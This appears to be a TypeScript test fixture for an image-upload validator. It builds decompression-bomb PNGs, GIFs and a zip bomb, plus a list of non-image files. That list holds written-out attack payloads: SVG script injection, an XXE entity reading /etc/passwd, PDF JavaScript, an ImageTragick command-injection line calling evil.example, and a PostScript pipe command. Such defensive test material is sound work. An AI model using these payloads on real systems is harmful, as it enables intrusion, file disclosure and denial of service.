import { crc32, deflateSync } from 'node:zlib'
import { strToU8, zipSync } from 'fflate'

const text = (words: string) => Buffer.from(words)
const word = (value: number) => { const bytes = Buffer.alloc(4); bytes.writeUInt32BE(value); return bytes }
const chunk = (type: string, data: Uint8Array) => Buffer.concat([word(data.length), text(type), data, word(crc32(Buffer.concat([text(type), data])))])

/** A black PNG of one bit a pixel: a hundred million of them are 12 KB. */
export function png(width: number, height: number, also: Uint8Array = Buffer.alloc(0), rows = height) {
  const head = Buffer.concat([word(width), word(height), Buffer.from([1, 0, 0, 0, 0])])
  const data = deflateSync(Buffer.alloc((Math.ceil(width / 8) + 1) * rows), { level: 1 })
  return Buffer.concat([Buffer.from('\u0089PNG\r\n\u001A\n', 'latin1'), chunk('IHDR', head), also, chunk('IDAT', data), chunk('IEND', Buffer.alloc(0))])
}

export const pngText = (words: string) => chunk('tEXt', text(`Comment\0${words}`))

/** A GIF of that many frames of that size; only the first pixel of each is said. */
export function gif(frames: number, side = 1) {
  const size = Buffer.alloc(4)
  size.writeUInt16LE(side, 0)
  size.writeUInt16LE(side, 2)
  const frame = Buffer.concat([Buffer.from([0x2C, 0, 0, 0, 0]), size, Buffer.from([0, 2, 2, 0x44, 1, 0])])
  return Buffer.concat([text('GIF89a'), size, Buffer.from([0x80, 0, 0, 255, 0, 0, 0, 0, 255]), ...Array.from({ length: frames }, () => frame), text(';')])
}

export const archive = () => Buffer.from(zipSync({ 'index.html': strToU8('<script>Tattletale()</script>'), 'zeros.bin': new Uint8Array(10_000_000) }))

export const script = '<script>/*Tattletale*/alert(document.domain)</script>'

/** What is no picture, whatever it is called and says of itself. */
export const strangers: [string, Uint8Array][] = [
  ['an SVG with a script', text(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`)],
  ['an SVG behind a declaration', text(`\u{FEFF}<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg">&x;</svg>`)],
  ['a page of HTML', text(`<!doctype html>${script}`)],
  ['a script', text('alert(1)')],
  ['a PDF', text('%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>')],
  ['a zip bomb', archive()],
  ['a gzip bomb', Buffer.from([0x1F, 0x8B, 8, 0, 0, 0, 0, 0])],
  ['a TIFF', Buffer.from([0x49, 0x49, 0x2A, 0, 8, 0, 0, 0])],
  ['an icon', Buffer.from([0, 0, 1, 0, 1, 0])],
  ['a bitmap', text('BM')],
  ['ImageMagick’s own language', text('push graphic-context\nviewbox 0 0 640 480\nfill \'url(https://evil.example/";|id")\'\npop graphic-context')],
  ['PostScript', text('%!PS\n(%pipe%id) (w) file')],
  ['HEIC', Buffer.concat([word(24), text('ftypheic'), word(0), text('mif1heic')])],
  ['a film', Buffer.concat([word(24), text('ftypisom'), word(0), text('isommp42')])],
  ['nothing but noughts', Buffer.alloc(100_000)],
  ['two bytes of a JPEG', Buffer.from([0xFF, 0xD8])],
]
